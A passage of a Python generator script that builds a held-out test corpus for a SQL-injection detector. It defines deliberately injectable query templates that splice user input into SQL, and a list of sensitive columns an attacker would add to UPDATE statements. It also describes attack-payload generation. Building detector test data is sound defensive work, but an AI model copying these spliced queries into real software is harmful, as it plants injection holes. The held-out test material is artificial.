#!/usr/bin/env python3
"""Generator for the twenty-third held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_twentythird.py [OUTPUT]      # default: twentythird.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
built the way make_twentysecond.py is); rows whose text occurs in any
earlier corpus (dev to twentysecond) are skipped.  2,814 rows; ids
f23-NNNNNN, split "twentythird".  The per-family counts are corpus_kit's
targets.  New for this file:

* 88 application templates (`t23_<producer>_*`) on fifteen domains none of
  the earlier corpora use (an orchid nursery, sled-dog kennels, a yacht
  charter, a ventriloquists' guild, a rodeo, a watchmaker, a bridge club,
  a topiary garden, an antique dealer, a ukulele orchestra, a scrapyard, a
  reptile house, a treehouse hotel, an ostrich farm and a barbershop), each
  the SQL text one producer sends after splicing a request parameter into
  it: Swift Vapor SQLKit raw with unsafeRaw interpolation, Odoo
  env.cr.execute("..." % v), Frappe frappe.db.sql(f"...") ("tabSled Dog"
  tables), Moodle $DB->get_records_sql (mdl_ tables), Drupal
  Database::query, Joomla setQuery (jos_ tables), Kotlin Komapper
  fromTemplate, Lucee <cfquery> with PreserveSingleQuotes(), Classic ASP
  and VB6 ADO Execute / Recordset.Open with &, C# FreeSql Ado.Query and
  SqlSugar Ado.SqlQuery, linq2db Query<T>, Marten document queries
  (mt_doc_* tables, data ->> 'Key'), Python Orator db.select and web2py
  DAL executesql, Dolibarr $db->query (llx_ tables), Tryton
  cursor.execute, polars read_database_uri and Ibis raw_sql, PowerBuilder
  EXECUTE IMMEDIATE (upper-case SQL), Gambas DB.Exec, Apache NiFi
  ExecuteSQL ${attr}, Zapier custom queries, Strapi
  db.connection.raw, Discourse DB.query, Ruby rom-rb read, Crystal
  Jennifer, Nextcloud executeQuery (oc_ tables) and Clojure Korma exec-raw
  -- other parameters stay bound as $n.  Shapes as in dev: logins (hash,
  md5(), crypt()), lookups by id or code, LIKE / ILIKE / ~*, ORDER BY
  column and direction, INSERT ... RETURNING, UPDATE ... SET, DELETE by
  id or token, IN lists, NOT EXISTS with BETWEEN, JOINs, jsonb @> and ->>,
  jsonb ? key, LIMIT / OFFSET, lower(email), now() + interval '<input>',
  ::date, GROUP BY / HAVING, full-text search, = ANY(array), EXISTS, a
  CTE, E'' notes, $t23$ literals and a "table" preview.  Four templates
  replay a stored value (second-order);
* attack payloads as in make_twentysecond.py (sqlmap requests with dev's
  mix of DBMSes, boundaries and tampers; hand-written PostgreSQL
  techniques), over this file's tables, with new dollar tags ($b23$,
  $body$, $k23$, $Ω$, $go$, $ñ3$, $y_z$, $FN23$, $n$, $y23$, $f$, $ø3$,
  $u_u$, $w23$, $Rr$, $j$; guessed $txt$, $q2$, $fn$, $_$, $b$), new
  inline-comment spellings (/*23*/, /*-*/, /*++*/, /*x1*/, /*!*/, /*,*/,
  /*^^*/, /* c d */, /*\\t*/), new --common-tables / --common-columns
  guesses and new escape-bypass rows;
* benign rows from new input pools and typed values, escaped attack
  strings including new look-alikes (left single quote, prime, percent
  encoded digits, &#39;, backticks, \\u0027 as text, %u0027, guillemets),
  complex generators (`cx23_*`) over this file's tables, and pg_regress
  rows (`regress23:<file>.sql`).

Checked against PostgreSQL 15 (throwaway cluster on loopback, each benign
statement sent through psql as `SELECT 1/0;` + statement in one simple
query, so a syntax error is reported before anything runs): all 1,498
benign rows parse (none needed fixing, none was dropped).  There is no
`parses` field, as in the seventh to twenty-second corpora."""

import base64, hashlib, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids  # noqa: E402
from functools import partial  # noqa: E402

SEED = 23232323
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth", "eighteenth", "nineteenth", "twentieth", "twentyfirst",
           "twentysecond")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}), as in make_twentyfirst.py: the SQL text one producer
# sends after splicing a request parameter into it (the producer is the
# second part of the name; other parameters stay bound as $n).  Every
# template is a single statement in the shapes dev.jsonl's application
# templates take.  Slot types: q '...', e E'...', d $t23$...$t23$,
# qi "...", n number, list (numbers joined with commas), col (ORDER BY
# expression), dir (ASC/DESC).  cut: what closes the slot's brackets when
# a breakout must close more than the innermost ones; cond_cut: what closes
# it before a condition can be appended.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


T = [
 # orchid nursery -- Swift Vapor SQLKit sql.raw("\(unsafeRaw: v)") and Odoo self.env.cr.execute("..." % v)
 ("t23_sqlkit_orchid_lookup", "SELECT orchid_id, genus, epithet, pot_cm FROM orchid_stock WHERE accession_code = '{a}'",
  {"a": S("q", ["PH-2231", "CATT-0907"])}),
 ("t23_sqlkit_hybrid_search", "SELECT grex_id, grex_name, registered_year FROM orchid_grexes WHERE grex_name ILIKE '%{a}%' AND registered_year >= {b} ORDER BY grex_name",
  {"a": S("q", ["Phal", "Lady Slipper"]), "b": S("n", ["1990", "2010"])}),
 ("t23_sqlkit_repot_insert", "INSERT INTO orchid_repots (orchid_id, medium, repotted_on, root_health) VALUES ({a}, '{b}', current_date, {c}) RETURNING repot_id",
  {"a": S("n", ["2231", "907"]), "b": S("q", ["fine bark", "sphagnum"]), "c": S("n", ["4", "2"])}),
 ("t23_odoo_grower_login", "SELECT id, login, partner_id FROM res_users WHERE login = '{a}' AND nursery_pin = '{b}' AND active",
  {"a": S("q", ["glasshouse.b", "m.okonkwo"]), "b": S("q", ["c5d1a0e9b74f2c31", "7f0e2b91aa3c64d8"], "token")}),
 ("t23_odoo_mist_schedule", "SELECT id, bench, mist_seconds FROM orchid_mist_schedule WHERE bench = {a} ORDER BY {b} {c}",
  {"a": S("n", ["3", "12"]), "b": S("col", ["mist_seconds", "bench", "id"]), "c": S("dir", ["ASC", "DESC"])}),
 ("t23_odoo_spike_update", "UPDATE orchid_stock SET spike_count = {a}, bloom_note = E'{b}' WHERE orchid_id = {c}",
  {"a": S("n", ["2", "5"]), "b": S("e", ["first bud opening", "keep away from the radiator"]), "c": S("n", ["2231", "907"])}),
 # sled-dog kennels -- Frappe frappe.db.sql(f"...") ("tabDoctype" tables) and Moodle $DB->get_records_sql("... '$v'") (mdl_ tables)
 ("t23_frappe_dog_by_chip", "SELECT name, dog_name, harness_size, lead_dog FROM \"tabSled Dog\" WHERE microchip = '{a}'",
  {"a": S("q", ["985141000123456", "941000024417770"])}),
 ("t23_frappe_team_dogs", "SELECT name, dog_name, position FROM \"tabSled Dog\" WHERE team = '{a}' AND docstatus < 2 ORDER BY position LIMIT {b}",
  {"a": S("q", ["Aurora Eight", "Tundra Pups"]), "b": S("n", ["8", "12"])}),
 ("t23_frappe_run_log", "INSERT INTO \"tabRun Log\" (name, team, distance_km, trail, creation) VALUES ('{a}', '{b}', {c}, '{d}', now())",
  {"a": S("q", ["RUN-00412", "RUN-01177"]), "b": S("q", ["Aurora Eight", "Tundra Pups"]), "c": S("n", ["18.5", "42"]), "d": S("q", ["forest loop", "lake crossing"])}),
 ("t23_moodle_musher_email", "SELECT id, firstname, lastname FROM mdl_user WHERE lower(email) = lower('{a}') AND deleted = 0",
  {"a": S("q", ["musher.anna@example.org", "K.Lindqvist@example.com"], "email")}),
 ("t23_moodle_course_grades", "SELECT gi.itemname, gg.finalgrade FROM mdl_grade_grades gg JOIN mdl_grade_items gi ON gi.id = gg.itemid WHERE gg.userid = {a} AND gi.courseid = {b}",
  {"a": S("n", ["4120", "77"]), "b": S("n", ["12", "3"])}),
 ("t23_moodle_vet_checks", "SELECT dogid, checked_on, weight_kg FROM mdl_kennel_vetcheck WHERE checked_on BETWEEN '{a}' AND '{b}' ORDER BY checked_on",
  {"a": S("q", ["2025-01-06", "2024-11-01"], "date"), "b": S("q", ["2025-02-06", "2024-12-01"], "date")}),
 # yacht charter -- Drupal \Drupal::database()->query("... $v") and Joomla $db->setQuery("... $v") (jos_ tables)
 ("t23_drupal_charter_ref", "SELECT charter_id, yacht, skipper, embark_on FROM yacht_charters WHERE charter_ref = '{a}'",
  {"a": S("q", ["YC-8830", "BVI-2026-014"])}),
 ("t23_drupal_berth_free", "SELECT berth_id FROM marina_berths m WHERE NOT EXISTS (SELECT 1 FROM berth_bookings b WHERE b.berth_id = m.berth_id AND b.night BETWEEN '{a}' AND '{b}')",
  {"a": S("q", ["2025-07-12", "2026-08-01"], "date"), "b": S("q", ["2025-07-19", "2026-08-08"], "date")}),
 ("t23_drupal_crew_note", "UPDATE yacht_charters SET crew_note = '{a}', changed = extract(epoch from now())::int WHERE charter_id = {b} RETURNING charter_id",
  {"a": S("q", ["vegetarian chef requested", "two divers aboard"]), "b": S("n", ["8830", "14"])}),
 ("t23_joomla_guest_login", "SELECT id, name, block FROM jos_users WHERE username = '{a}' AND password = '{b}'",
  {"a": S("q", ["skipper_jo", "guest.fenwick"]), "b": S("q", ["$2y$10$abcDEF", "d41d8cd98f00b204"], "token")}),
 ("t23_joomla_yacht_list", "SELECT id, title, cabins, length_m FROM jos_charter_yachts WHERE cabins >= {a} AND state = 1 ORDER BY length_m DESC LIMIT {b} OFFSET {c}",
  {"a": S("n", ["3", "5"]), "b": S("n", ["10", "20"]), "c": S("n", ["0", "30"])}),
 ("t23_joomla_yacht_tags", "SELECT id, title FROM jos_charter_yachts WHERE id IN ({a}) AND state = 1",
  {"a": S("list", ["14, 19, 23", "8"])}),
 # ventriloquists' guild -- Kotlin Komapper QueryDsl.fromTemplate("...") and Lucee <cfquery> with PreserveSingleQuotes()
 ("t23_komapper_member", "SELECT member_id, stage_name, figure_name FROM vent_members WHERE member_id = {a}",
  {"a": S("n", ["318", "4402"])}),
 ("t23_komapper_figure_search", "SELECT figure_id, name, carved_by FROM vent_figures WHERE name LIKE '{a}%' ORDER BY name LIMIT 40",
  {"a": S("q", ["Lord", "Archie"])}),
 ("t23_komapper_gig_insert", "INSERT INTO vent_gigs (member_id, venue, gig_on, fee_pence) VALUES ({a}, '{b}', '{c}', {d}) RETURNING gig_id",
  {"a": S("n", ["318", "44"]), "b": S("q", ["Winter Gardens", "St Anne's Pier"]), "c": S("q", ["2025-12-20", "2026-04-04"], "date"), "d": S("n", ["25000", "8000"])}),
 ("t23_lucee_script_fts", "SELECT script_id, title FROM vent_scripts WHERE to_tsvector('english', body) @@ plainto_tsquery('english', '{a}') LIMIT 25",
  {"a": S("q", ["gottle of geer", "heckler"])}),
 ("t23_lucee_lessons_by_grade", "SELECT grade, count(*) FROM vent_lessons WHERE taught_on >= '{a}'::date GROUP BY grade HAVING count(*) >= {b}",
  {"a": S("q", ["2025-01-01", "2024-09-01"], "date"), "b": S("n", ["2", "5"])}),
 ("t23_lucee_figure_meta", "SELECT figure_id, name FROM vent_figures WHERE details @> '{a}'::jsonb",
  {"a": S("q", ["{\"eyes\": \"winkers\"}", "{\"mouth\": \"lever\"}"], "json")}),
 # rodeo -- Classic ASP conn.Execute("..." & Request("x") & "...") and VB6 ADO rs.Open "..." & txtX.Text
 ("t23_asp_rider_entry", "SELECT entry_id, rider, event, draw_no FROM rodeo_entries WHERE back_number = '{a}'",
  {"a": S("q", ["117", "B-42"])}),
 ("t23_asp_scores_page", "SELECT rider, event, score FROM rodeo_scores WHERE event = '{a}' ORDER BY score DESC LIMIT {b}",
  {"a": S("q", ["saddle bronc", "barrel racing"]), "b": S("n", ["10", "25"])}),
 ("t23_asp_stock_delete", "DELETE FROM rodeo_stock_draw WHERE draw_id = {a} AND performance = {b}",
  {"a": S("n", ["9034", "12"]), "b": S("n", ["1", "4"])}),
 ("t23_vb6_contractor_login", "SELECT contractor_id, name FROM stock_contractors WHERE login = '{a}' AND password_hash = md5('{b}')",
  {"a": S("q", ["flying_u", "bar.t.ranch"]), "b": S("q", ["Broncs!77", "yellowstone9"])}),
 ("t23_vb6_bull_lookup", "SELECT bull_id, name, buckoff_pct FROM rodeo_bulls WHERE brand = '{a}'",
  {"a": S("q", ["Lazy Y", "Rocking 7"])}),
 ("t23_vb6_purse_update", "UPDATE rodeo_events SET purse_usd = {a}, sponsor = '{b}' WHERE event_id = {c}",
  {"a": S("n", ["15000", "4200"]), "b": S("q", ["Feed & Seed Co", "Western Outfitters"]), "c": S("n", ["31", "7"])}),
 # watchmaker -- C# FreeSql fsql.Ado.Query<T>($"...") and SqlSugar db.Ado.SqlQuery<T>("..." + v)
 ("t23_freesql_job_ticket", "SELECT a.\"JobId\", a.\"Calibre\", a.\"Fault\" FROM \"WatchJob\" a WHERE a.\"TicketNo\" = '{a}'",
  {"a": S("q", ["WJ-55102", "SERV-0871"])}),
 ("t23_freesql_calibre_parts", "SELECT a.\"PartNo\", a.\"Description\", a.\"Qty\" FROM \"CalibrePart\" a WHERE a.\"Calibre\" = '{a}' AND a.\"Qty\" > {b}",
  {"a": S("q", ["ETA 2824-2", "Unitas 6497"]), "b": S("n", ["0", "3"])}),
 ("t23_freesql_timegrapher", "SELECT reading_id, rate_spd, amplitude FROM timegrapher_readings WHERE job_id = {a} ORDER BY read_at DESC LIMIT {b}",
  {"a": S("n", ["55102", "871"]), "b": S("n", ["6", "20"])}),
 ("t23_sqlsugar_customer_email", "SELECT CustomerId, FullName FROM watch_customers WHERE Email = '{a}'",
  {"a": S("q", ["tick.tock@example.org", "h.vogel@example.com"], "email")}),
 ("t23_sqlsugar_strap_search", "SELECT strap_id, material, lug_mm FROM watch_straps WHERE material ~* '{a}' AND lug_mm = {b}",
  {"a": S("q", ["cordovan", "nato"]), "b": S("n", ["20", "18"])}),
 ("t23_sqlsugar_service_note", "INSERT INTO service_notes (job_id, note) VALUES ({a}, $t23${b}$t23$)",
  {"a": S("n", ["55102", "871"]), "b": S("d", ["Mainspring replaced; demagnetised", "Crystal chipped at 4 o'clock"])}),
 # bridge club -- linq2db db.Query<T>("..." + v) and Marten session.Query<T>("where data ->> ...") (mt_doc_ tables)
 ("t23_linq2db_session_scores", "SELECT t1.pair_no, t1.matchpoints FROM bridge_results t1 WHERE t1.session_id = {a} ORDER BY t1.matchpoints DESC",
  {"a": S("n", ["612", "49"])}),
 ("t23_linq2db_board_hands", "SELECT board_no, dealer, vulnerable FROM bridge_boards WHERE session_id = {a} AND board_no BETWEEN {b} AND {c}",
  {"a": S("n", ["612", "49"]), "b": S("n", ["1", "13"]), "c": S("n", ["12", "24"])}),
 ("t23_linq2db_table_money", "UPDATE bridge_members SET table_money_owed = {a} WHERE member_id = {b} RETURNING member_id, table_money_owed",
  {"a": S("n", ["4.50", "0"]), "b": S("n", ["2290", "31"])}),
 ("t23_marten_player_name", "select d.id, d.data from public.mt_doc_bridgeplayer as d where d.data ->> 'Name' = '{a}'",
  {"a": S("q", ["Margaret Oyelaran", "Hugh Penrose"])}),
 ("t23_marten_ebu_number", "select d.id, d.data from public.mt_doc_bridgeplayer as d where CAST(d.data ->> 'EbuNumber' as integer) = {a}",
  {"a": S("n", ["40112", "7781"])}),
 ("t23_marten_convention", "select d.id, d.data from public.mt_doc_partnership as d where d.data -> 'Conventions' ? '{a}'",
  {"a": S("q", ["Stayman", "Blackwood"])}),
 # topiary garden -- Python Orator db.select("..." + v) and web2py DAL db.executesql("..." % v)
 ("t23_orator_shape_lookup", "SELECT shape_id, species, form, height_cm FROM topiary_shapes WHERE form = '{a}'",
  {"a": S("q", ["peacock", "spiral cone"])}),
 ("t23_orator_clip_schedule", "SELECT shape_id, clip_due FROM clip_schedule WHERE clip_due <= '{a}'::date AND gardener_id = {b} ORDER BY clip_due",
  {"a": S("q", ["2025-06-30", "2026-05-15"], "date"), "b": S("n", ["4", "11"])}),
 ("t23_orator_visitor_feedback", "INSERT INTO visitor_feedback (visited_on, rating, comment) VALUES ('{a}', {b}, '{c}')",
  {"a": S("q", ["2025-05-18", "2026-07-02"], "date"), "b": S("n", ["5", "3"]), "c": S("q", ["loved the yew chess set", "maze too muddy"])}),
 ("t23_web2py_gardener_login", "SELECT gardener.id, gardener.name FROM gardener WHERE gardener.username = '{a}' AND gardener.passcode = '{b}'",
  {"a": S("q", ["box.hedge", "yew_keeper"]), "b": S("q", ["Clip2025", "buxus#4"])}),
 ("t23_web2py_species_counts", "SELECT species, count(*) FROM topiary_shapes WHERE planted_year < {a} GROUP BY species ORDER BY 2 DESC",
  {"a": S("n", ["1950", "2000"])}),
 ("t23_web2py_blight_flag", "UPDATE topiary_shapes SET blight_status = '{a}' WHERE shape_id IN ({b})",
  {"a": S("q", ["suspected", "clear"]), "b": S("list", ["12, 14", "7"])}),
 # antique dealer -- Dolibarr $db->query("... '".$v."'") (llx_ tables) and Tryton cursor.execute("..." % v)
 ("t23_dolibarr_product_ref", "SELECT p.rowid, p.ref, p.label, p.price FROM llx_product AS p WHERE p.ref = '{a}' AND p.entity IN (1)",
  {"a": S("q", ["ANT-GEO-0412", "CLOCK-BRACKET-7"])}),
 ("t23_dolibarr_thirdparty_search", "SELECT s.rowid, s.nom, s.town FROM llx_societe AS s WHERE s.nom LIKE '%{a}%' ORDER BY s.nom ASC LIMIT {b}",
  {"a": S("q", ["Hallmark", "Portobello"]), "b": S("n", ["26", "50"])}),
 ("t23_dolibarr_provenance", "UPDATE llx_product SET note_private = '{a}' WHERE rowid = {b}",
  {"a": S("q", ["ex-collection Lady Harcourt", "bought at Lewes auction"]), "b": S("n", ["412", "7"])}),
 ("t23_tryton_lot_hallmark", "SELECT a.id, a.description FROM antique_lot AS a WHERE a.hallmark_year = {a} AND a.assay_office = '{b}'",
  {"a": S("n", ["1862", "1911"]), "b": S("q", ["Sheffield", "Birmingham"])}),
 ("t23_tryton_consignor", "SELECT a.id, a.name FROM party_party AS a WHERE a.code = '{a}'",
  {"a": S("q", ["C-00091", "CONS-744"])}),
 ("t23_tryton_auction_results", "WITH sold AS (SELECT lot_id, hammer_price FROM auction_results WHERE sale_id = {a} AND hammer_price > {b}) SELECT lot_id, hammer_price FROM sold ORDER BY hammer_price DESC",
  {"a": S("n", ["88", "301"]), "b": S("n", ["100", "2500"])}),
 # ukulele orchestra -- Python polars pl.read_database_uri(f"...") and Ibis con.raw_sql(f"...")
 ("t23_polars_attendance", "SELECT rehearsal_on, count(*) AS players FROM uke_attendance WHERE rehearsal_on BETWEEN '{a}' AND '{b}' GROUP BY rehearsal_on",
  {"a": S("q", ["2025-01-01", "2025-09-01"], "date"), "b": S("q", ["2025-03-31", "2025-12-31"], "date")}),
 ("t23_polars_setlist", "SELECT song_id, title, key_sig FROM uke_songs WHERE '{a}' = ANY(chords) ORDER BY title",
  {"a": S("q", ["Bb", "E7"])}),
 ("t23_ibis_tuning_table", "SELECT * FROM \"{a}\" LIMIT 50",
  {"a": S("qi", ["uke_songs", "uke_tunings"])}),
 ("t23_ibis_gig_takings", "SELECT gig_id, sum(bucket_pence) FROM uke_gig_takings WHERE gig_on >= '{a}' GROUP BY gig_id HAVING sum(bucket_pence) > {b}",
  {"a": S("q", ["2025-04-01", "2024-10-01"], "date"), "b": S("n", ["5000", "10000"])}),
 ("t23_ibis_arrangement_key", "SELECT arrangement_id, parts->>'{a}' AS part FROM uke_arrangements WHERE song_id = {b}",
  {"a": S("q", ["bass", "harmony"], "jkey"), "b": S("n", ["41", "7"])}),
 # scrapyard -- PowerBuilder EXECUTE IMMEDIATE :ls_sql (upper-case SQL) and Gambas DB.Exec("..." & v)
 ("t23_pb_weighbridge", "SELECT TICKET_NO, REG_PLATE, GROSS_KG, TARE_KG FROM WEIGHBRIDGE_TICKETS WHERE TICKET_NO = {a}",
  {"a": S("n", ["208811", "5502"])}),
 ("t23_pb_metal_price", "UPDATE METAL_PRICES SET PRICE_PER_TONNE = {a}, SET_BY = '{b}' WHERE GRADE = '{c}'",
  {"a": S("n", ["6200", "185.5"]), "b": S("q", ["DAVE", "YARD OFFICE"]), "c": S("q", ["BRIGHT COPPER", "HMS1"])}),
 ("t23_pb_seller_id", "SELECT SELLER_ID, NAME, ID_CHECKED FROM SCRAP_SELLERS WHERE PHOTO_ID_REF = '{a}'",
  {"a": S("q", ["DL-HOLLIS-804", "PP-552190"])}),
 ("t23_gambas_vehicle_search", "SELECT vehicle_id, make, model, atf_cert FROM elv_vehicles WHERE make ILIKE '{a}%' AND received_on > '{b}'",
  {"a": S("q", ["Vauxhall", "Ford"]), "b": S("q", ["2025-02-01", "2024-12-01"], "date")}),
 ("t23_gambas_skip_hire", "INSERT INTO skip_hires (customer, postcode, skip_yd, drop_on) VALUES ('{a}', '{b}', {c}, current_date + 1) RETURNING hire_id",
  {"a": S("q", ["Kershaw Builders", "Mrs Ng"]), "b": S("q", ["LS11 5QR", "BD3 9AA"]), "c": S("n", ["6", "8"])}),
 ("t23_gambas_catalytic", "SELECT cat_id, serial, grade FROM catalytic_converters WHERE serial = '{a}'",
  {"a": S("q", ["GM 25187396", "3L0131701"])}),
 # reptile house -- Apache NiFi ExecuteSQL with ${attribute} Expression Language and Zapier "Find row via custom query"
 ("t23_nifi_vivarium_temps", "SELECT vivarium_id, logged_at, basking_c, cool_c FROM vivarium_temps WHERE vivarium_id = {a} AND logged_at > '{b}'",
  {"a": S("n", ["14", "3"]), "b": S("q", ["2025-11-02 06:00", "2026-01-20 18:30"], "ts")}),
 ("t23_nifi_feed_events", "SELECT animal_id, fed_at, prey FROM reptile_feeds WHERE prey = '{a}' ORDER BY fed_at DESC LIMIT {b}",
  {"a": S("q", ["defrosted mouse", "locusts"]), "b": S("n", ["100", "500"])}),
 ("t23_nifi_shed_insert", "INSERT INTO shed_records (animal_id, shed_on, complete, notes) VALUES ({a}, '{b}', true, E'{c}')",
  {"a": S("n", ["221", "9"]), "b": S("q", ["2025-10-14", "2026-02-01"], "date"), "c": S("e", ["eye caps retained", "clean single piece"])}),
 ("t23_zapier_keeper_email", "SELECT keeper_id, name, licence_no FROM reptile_keepers WHERE email = '{a}'",
  {"a": S("q", ["keeper.sam@example.org", "V.Ramos@example.com"], "email")}),
 ("t23_zapier_species_lookup", "SELECT species_id, common_name, cites_appendix FROM reptile_species WHERE latin_name = '{a}'",
  {"a": S("q", ["Python regius", "Pogona vitticeps"])}),
 ("t23_zapier_adoption_exists", "SELECT EXISTS (SELECT 1 FROM animal_adoptions WHERE adopter_email = '{a}' AND animal_id = {b})",
  {"a": S("q", ["gecko.fan@example.org", "t.ward@example.com"], "email"), "b": S("n", ["221", "9"])}),
 # treehouse hotel -- Strapi strapi.db.connection.raw(`...${v}`) and Discourse-style DB.query("... #{v}")
 ("t23_strapi_treehouse_slug", "SELECT id, name, sleeps, height_m FROM treehouses WHERE slug = '{a}' AND published_at IS NOT NULL",
  {"a": S("q", ["owl-loft", "the-canopy"])}),
 ("t23_strapi_stay_lookup", "SELECT s.id, s.check_in, t.name FROM stays s JOIN treehouses t ON t.id = s.treehouse_id WHERE s.booking_code = '{a}' AND s.guest_id = {b}",
  {"a": S("q", ["TH-99120", "OWL-2026-03"]), "b": S("n", ["7721", "58"])}),
 ("t23_strapi_review_insert", "INSERT INTO stay_reviews (stay_id, stars, body, created_at) VALUES ({a}, {b}, '{c}', now()) RETURNING id",
  {"a": S("n", ["99120", "403"]), "b": S("n", ["5", "4"]), "c": S("q", ["woken by woodpeckers, magical", "rope bridge wobbly at night"])}),
 ("t23_discourse_guest_reset", "UPDATE treehouse_guests SET reset_token = '{a}', reset_expires_at = now() + interval '{b}' WHERE lower(email) = lower('{c}')",
  {"a": S("q", ["8e1fa07c4b2d9a36", "deadc0de00c0ffee"], "token"), "b": S("q", ["30 minutes", "2 hours"], "interval"), "c": S("q", ["canopy@example.org", "J.Birch@example.com"], "email")}),
 ("t23_discourse_topic_search", "SELECT id, title FROM forum_topics WHERE title ILIKE '%{a}%' AND deleted_at IS NULL ORDER BY bumped_at DESC LIMIT 30",
  {"a": S("q", ["hot tub", "squirrels"])}),
 ("t23_discourse_weather_hold", "DELETE FROM stay_holds WHERE hold_token = '{a}'",
  {"a": S("q", ["a91c3e70f2b8", "0b0e5d2c7f11"], "token")}),
 # ostrich farm -- Ruby rom-rb relation.read("...") and Crystal Jennifer Jennifer::Query["..."]
 ("t23_rom_bird_tag", "SELECT bird_id, sex, hatched_on, weight_kg FROM ostriches WHERE ear_tag = '{a}'",
  {"a": S("q", ["OS-1180", "CHICK-25-031"])}),
 ("t23_rom_egg_incubation", "SELECT egg_id, laid_on, candled FROM ostrich_eggs WHERE incubator_no = {a} AND laid_on::date = '{b}'",
  {"a": S("n", ["2", "5"]), "b": S("q", ["2025-04-11", "2026-03-29"], "date")}),
 ("t23_rom_paddock_sort", "SELECT paddock_id, birds, fence_check FROM ostrich_paddocks WHERE farm_id = $1 ORDER BY {a} {b}",
  {"a": S("col", ["birds", "fence_check", "paddock_id"]), "b": S("dir", ["DESC", "ASC"])}),
 ("t23_jennifer_buyer_login", "SELECT id, company FROM ostrich_buyers WHERE account = '{a}' AND password_digest = crypt('{b}', password_digest)",
  {"a": S("q", ["karoo.leather", "feather.works"]), "b": S("q", ["Plume2025", "struthio!"])}),
 ("t23_jennifer_feather_grade", "UPDATE feather_lots SET grade = '{a}', graded_on = current_date WHERE lot_id = {b}",
  {"a": S("q", ["prime white", "byocks"]), "b": S("n", ["640", "21"])}),
 # barbershop -- Nextcloud $this->db->executeQuery("...") (oc_ tables) and Clojure Korma (exec-raw [(str "..." v)])
 ("t23_nextcloud_booking", "SELECT id, client, slot_at FROM oc_barber_bookings WHERE barber = '{a}' AND slot_at >= now() ORDER BY slot_at",
  {"a": S("q", ["Vinnie", "Sal O'Brien"])}),
 ("t23_nextcloud_share_user", "SELECT uid, displayname FROM oc_users WHERE uid = '{a}'",
  {"a": S("q", ["barber.vinnie", "front_desk"])}),
 ("t23_nextcloud_loyalty", "UPDATE oc_barber_clients SET loyalty_cuts = loyalty_cuts + {a} WHERE client_id = {b}",
  {"a": S("n", ["1", "2"]), "b": S("n", ["3340", "18"])}),
 ("t23_korma_style_search", "SELECT \"cut_styles\".* FROM \"cut_styles\" WHERE (\"cut_styles\".\"name\" LIKE '%{a}%')",
  {"a": S("q", ["fade", "pompadour"])}),
 ("t23_korma_price_list", "SELECT service, price_pence FROM barber_prices WHERE service IN ({a}) OR price_pence < {b}",
  {"a": S("list", ["1, 4, 6", "9"]), "b": S("n", ["1200", "800"])}),
 ("t23_korma_beard_note", "INSERT INTO client_notes (client_id, note, written_by) VALUES ({a}, '{b}', '{c}')",
  {"a": S("n", ["3340", "18"]), "b": S("q", ["beard oil sensitive", "number 2 on the sides"]), "c": S("q", ["Vinnie", "Sal"])}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t23_marten_player_name", "t23_orator_shape_lookup", "t23_zapier_species_lookup", "t23_gambas_catalytic"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t23_odoo_spike_update": ["price_cents", "supplier_id"], "t23_drupal_crew_note": ["uid", "status"], "t23_vb6_purse_update": ["paid_out", "judge_id"],
             "t23_linq2db_table_money": ["is_director", "ebu_paid"], "t23_web2py_blight_flag": ["gardener_id", "insured_value"],
             "t23_dolibarr_provenance": ["price", "fk_user_author"], "t23_pb_metal_price": ["APPROVED_BY", "CASH_LIMIT"],
             "t23_discourse_guest_reset": ["admin", "password_hash"], "t23_jennifer_feather_grade": ["price_per_kg", "buyer_id"],
             "t23_nextcloud_loyalty": ["free_cut_due", "is_staff"]}
TAG = "$t23$"
CLOSER = closers(TAG)


segments, edit = corpus_kit.slot_editing(CLOSER)

CANON = {"q": ["v", "", "O'Toole", "two words", "2031-11-30", "15%", "can't"], "e": ["v", "", "it's", "C:\\kennel\\runs", "tab\there", "a\nb"],
         "d": ["v", "", "it's", "\"q\""], "qi": ["v", "He said \"mush\"", "with space"], "n": ["6", "0", "-3", "4.75", "2500000", "0.25"],
         "list": ["6", "6, 7", "13,14,15", "1, 2, 3, 4"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))

CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "USING", "WITH", "NOTIFY", "TABLE", "DO", "RANGE", "GROUPS", "PARTITION", "IS", "EXECUTE", "MATCHED", "CHECK")
COND_CLAUSES = ("WHERE", "HAVING", "ON")
NO_EXPR_LEADS = ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER", "GRANT", "REVOKE", "VACUUM", "ANALYZE", "LOCK", "CREATE", "COPY", "PREPARE",
                 "EXECUTE", "SAVEPOINT", "RELEASE", "DECLARE", "FETCH", "MOVE", "CLOSE", "REFRESH", "CLUSTER", "REINDEX", "RESET")


def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
